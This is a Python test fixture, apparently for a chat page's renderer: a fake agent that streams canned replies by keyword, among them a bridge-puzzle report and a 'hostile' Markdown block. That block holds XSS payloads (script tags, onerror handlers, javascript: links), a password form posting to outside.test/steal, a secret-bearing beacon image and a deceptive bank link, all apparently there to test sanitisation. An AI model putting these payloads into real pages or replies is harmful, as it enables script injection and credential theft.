"""An agent for the tests of the page: what it says depends on one word of the message. GATES is a folder; where it says
that it waits, it waits until a file of that name is there."""

import asyncio
import re
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

GATES = Path("GATES_FOLDER")
SECONDS = 120.0  # it waits no longer

REPORT = """## Crossing the bridge

Four people, one torch, and a bridge that carries **two at a time**. The slower one sets the pace, so the trick is to
send the two slowest *together*:

1. Ada and Ben cross, Ada comes back.
2. Cy and Di cross, Ben comes back.
3. Ada and Ben cross again.

| Step | Who crosses | Minutes | Total |
| --- | --- | ---: | ---: |
| 1 | Ada and Ben, Ada back | 3 | 3 |
| 2 | Cy and Di, Ben back | 12 | 15 |
| 3 | Ada and Ben | 2 | **17** |

The same as a few lines of `Python`:

```python
def total(a, b, c, d):
    \"\"\"The shortest time for four people, fastest first.\"\"\"
    together = a + 3 * b + d
    one_by_one = 2 * a + b + c + d
    return min(together, one_by_one)

print(total(1, 2, 5, 10))  # 17
```

> The rule holds for any four speeds; see [the general case](https://en.wikipedia.org/wiki/Bridge_and_torch_problem).
"""

HOSTILE = """# Prizes <script>window.ran = 1</script>

<img src=x onerror="window.ran = 2"> <svg onload="window.ran = 3"><style>body{display:none}</style>

![beacon](http://outside.test/beacon.png?secret=1) and [![nested](http://outside.test/n.png)](http://outside.test/go)

[click](javascript:window.ran=4) [data](data:text/html,<script>window.ran=5</script>) [safe](https://example.org/page)
[https://bank.test](https://evil.test/login) <https://auto.test/x> [x](//outside.test/protocol)

<form action="http://outside.test/steal"><input name=password><button>Sign in</button></form>

<iframe src="http://outside.test/frame"></iframe><link rel=stylesheet href="http://outside.test/x.css">

<a href="https://outside.test" style="position:fixed;inset:0;z-index:9999">everywhere</a>
<div id="message" class="composer" onclick="window.ran = 6">Message</div>

[ref]: javascript:alert(1)
[by reference][ref]

```html
<script>window.ran = 7</script>
```

| <img src=x onerror="window.ran = 8"> | `<b>` |
| --- | --- |
| [c](javascript:window.ran=9) | &lt;script&gt;window.ran = 10&lt;/script&gt; |
"""


async def stream(message: str) -> AsyncIterator[Any]:
    """The answer."""
    words = re.findall(r"\w+", message)
    if "gate" in words:
        yield "Before the gate. "
        await opening(GATES / words[words.index("gate") + 1])
        yield "After the gate."
    elif "fail" in words:
        yield "Half of it"
        raise RuntimeError("as asked")
    else:
        for piece in answer(words, message):
            yield piece


def answer(words: list[str], message: str) -> list[Any]:
    """What is said without waiting."""
    if "book" in words:
        return [*tool("open_book", "{}", '"a thick one"'), *["A line of a long book.\n\n"] * 1000]
    if "report" in words:
        speeds = '{"Ada": 1, "Ben": 2, "Cy": 5, "Di": 10}'
        return [*tool("lookup_speeds", '{"people": ["Ada", "Ben", "Cy", "Di"]}', speeds), *pieces(REPORT)]
    if "hostile" in words:
        return [
            *tool("<img src=x onerror=window.ran=11>", '{"a": "<script>"}', "<script>window.ran = 12</script>"),
            HOSTILE,
        ]
    if "nested" in words:
        return [">" * 30_000 + " deep"]
    if "long" in words:
        return [f"Line {number}.\n\n" for number in range(300)]
    return [f"You said: {message}"]


async def opening(gate: Path) -> None:
    """Until the gate is open."""
    async with asyncio.timeout(SECONDS):
        while not gate.exists():  # noqa: ASYNC110, ASYNC240 - it is opened by another process
            await asyncio.sleep(0.02)


def tool(name: str, arguments: str, result: str) -> list[dict[str, Any]]:
    """The events of one call of a tool that took 240 ms."""
    now = int(time.time() * 1000)
    call = {"toolCallId": f"call-{name[:8]}"}
    return [
        {"type": "TOOL_CALL_START", **call, "toolCallName": name, "timestamp": now},
        {"type": "TOOL_CALL_ARGS", **call, "delta": arguments},
        {"type": "TOOL_CALL_END", **call},
        {"type": "TOOL_CALL_RESULT", **call, "messageId": "tool", "content": result, "timestamp": now + 240},
    ]


def pieces(text: str) -> list[str]:
    """As a model would send it."""
    return [text[at : at + 12] for at in range(0, len(text), 12)]
